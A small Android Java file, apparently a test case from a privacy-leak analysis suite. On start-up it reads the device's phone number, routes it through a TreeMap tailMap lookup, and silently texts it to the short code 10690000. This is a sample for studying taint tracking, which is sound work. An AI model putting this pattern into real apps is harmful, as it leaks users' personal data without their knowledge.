package cn.privlens.suite.tail_of_tree;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.TreeMap;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TreeMap<String, String> sorted = new TreeMap<>();
        sorted.put("tel", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        sorted.put("lang", "zh");
        StringBuilder part = new StringBuilder();
        for (String value : sorted.tailMap("n").values()) {
            part.append(value).append(';');
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, part.toString(), null, null);
    }
}
